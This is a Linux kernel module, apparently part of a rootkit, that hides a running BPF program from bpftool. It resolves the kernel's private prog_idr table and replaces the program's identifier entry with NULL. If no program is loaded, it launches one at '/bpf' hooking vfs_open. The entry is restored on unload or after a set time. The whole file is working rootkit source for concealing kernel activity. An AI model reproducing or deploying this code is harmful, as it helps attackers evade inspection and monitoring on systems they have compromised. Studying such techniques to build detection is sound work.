// SPDX-License-Identifier: GPL-2.0-only
/*
 * Takes a BPF program's identifier away, so that bpftool does not show it, while it runs on. Starts one
 * if there is none. Removing the module, or for_ms, gives it back.
 */
#include "rk.h"

#include <linux/bpf.h>
#include <linux/delay.h>
#include <linux/idr.h>
#include <linux/spinlock.h>
#include <linux/umh.h>
#include <linux/workqueue.h>

static unsigned int for_ms; /* 0: until it is unloaded */
module_param(for_ms, uint, 0);

static struct idr *programs;
static spinlock_t *programs_lock;
static struct bpf_prog *program;
static int id;

static void start_program(void)
{
	char *argv[] = { "/bpf", "60000", "vfs_open", NULL }, *envp[] = { NULL };

	call_usermodehelper(argv[0], argv, envp, UMH_WAIT_EXEC);
}

static bool find_program(void)
{
	id = 1;
	spin_lock_bh(programs_lock);
	program = idr_get_next(programs, &id);
	spin_unlock_bh(programs_lock);
	return program;
}

static void replace(struct bpf_prog *with)
{
	spin_lock_bh(programs_lock);
	idr_replace(programs, with, id);
	spin_unlock_bh(programs_lock);
}

static void show(struct work_struct *work)
{
	if (!program)
		return;
	replace(program);
	program = NULL;
	pr_alert("rk hide_bpf off\n");
}

static DECLARE_DELAYED_WORK(shower, show);

static int __init rk_init(void)
{
	programs = (void *)rk_lookup("prog_idr");
	programs_lock = (void *)rk_lookup("prog_idr_lock");
	if (!programs || !programs_lock)
		return -ENOENT;
	if (!find_program())
		start_program();
	for (int i = 0; i < 100 && !find_program(); i++)
		msleep(100);
	if (!program)
		return -ENOENT;
	replace(NULL);
	pr_alert("rk hide_bpf on\n");
	if (for_ms)
		schedule_delayed_work(&shower, msecs_to_jiffies(for_ms));
	return 0;
}

static void __exit rk_exit(void)
{
	cancel_delayed_work_sync(&shower);
	show(NULL);
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_DESCRIPTION("hides a BPF program from its identifier");
MODULE_LICENSE("GPL");
